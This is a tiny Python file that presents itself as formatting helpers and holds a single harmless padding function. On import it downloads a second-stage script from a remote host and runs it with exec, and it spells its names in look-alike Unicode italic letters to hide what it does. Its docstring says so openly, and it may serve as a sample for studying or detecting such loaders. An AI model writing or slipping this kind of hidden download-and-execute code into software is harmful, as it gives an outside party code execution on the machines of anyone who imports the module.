"""Formatting helpers (the import below fetches and runs a second stage, written in look-alike letters)."""
import urllib.request as 𝘳𝘦𝘲

𝘱𝘢𝘺𝘭𝘰𝘢𝘥 = 𝘳𝘦𝘲.urlopen("https://cdn.example.invalid/stage.py").read()
𝘦𝘹𝘦𝘤(𝘱𝘢𝘺𝘭𝘰𝘢𝘥)


def pad(text: str, width: int) -> str:
    return text.ljust(width)
